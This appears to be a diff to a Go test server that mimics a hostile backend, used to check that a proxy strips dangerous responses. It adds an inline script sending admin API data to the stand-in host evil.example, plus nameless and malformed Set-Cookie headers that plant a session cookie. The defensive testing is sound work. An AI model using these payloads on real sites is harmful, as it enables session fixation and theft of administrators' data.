@@ -269,6 +269,7 @@ func (fs *fakeSlice) serve(w http.ResponseWriter, r *http.Request) {
 	switch {
 	case path == "/socket.io/refuse": // as socket.io answers an unknown sid
 		w.Header().Set("Content-Type", "application/json")
+		w.Header().Add("Set-Cookie", "io_sid=x; Path=/")
 		w.WriteHeader(http.StatusBadRequest)
 		w.Write([]byte(`{"code":1,"message":"Session ID unknown"}`))
 	case websocket.IsWebSocketUpgrade(r):
@@ -292,6 +293,11 @@ func (fs *fakeSlice) serve(w http.ResponseWriter, r *http.Request) {
 		case <-fs.slowDone:
 		case <-r.Context().Done():
 		}
+	case path == "/api/page": // what a hostile slice would answer an admin's navigation with
+		w.Header().Set("Content-Type", "text/html")
+		w.Header().Set("Content-Security-Policy", "script-src * 'unsafe-inline'")
+		w.Header().Set("X-Content-Type-Options", "sniff-away")
+		w.Write([]byte(`<script>fetch("/admin/api/slices").then(r => r.text()).then(t => navigator.sendBeacon("//evil.example", t))</script>`))
 	case path == "/api/big":
 		w.Header().Set("Content-Type", "application/octet-stream")
 		b := make([]byte, 3<<20)
@@ -302,6 +308,13 @@ func (fs *fakeSlice) serve(w http.ResponseWriter, r *http.Request) {
 	case path == "/api/set-cookies":
 		http.SetCookie(w, &http.Cookie{Name: slicehub.SessionCookie, Value: "planted", Path: "/"})
 		http.SetCookie(w, &http.Cookie{Name: "crm_pref", Value: "dark", Path: "/"})
+		// A nameless cookie, which browsers store as slicehub_session=planted.
+		w.Header().Add("Set-Cookie", "=slicehub_session=planted; Path=/api")
+		w.Header().Add("Set-Cookie", "slicehub_session")
+		w.Header().Set("Set-Cookie2", "slicehub_session=planted")
+		w.Header().Set("Clear-Site-Data", `"cookies", "storage"`)
+		w.Header().Set("Service-Worker-Allowed", "/")
+		w.Header().Set("Strict-Transport-Security", "max-age=0")
 		w.Header().Set("Keep-Alive", "timeout=5")
 		w.Header().Set("X-Hop", "x")
 		w.Header().Set("Connection", "X-Hop")
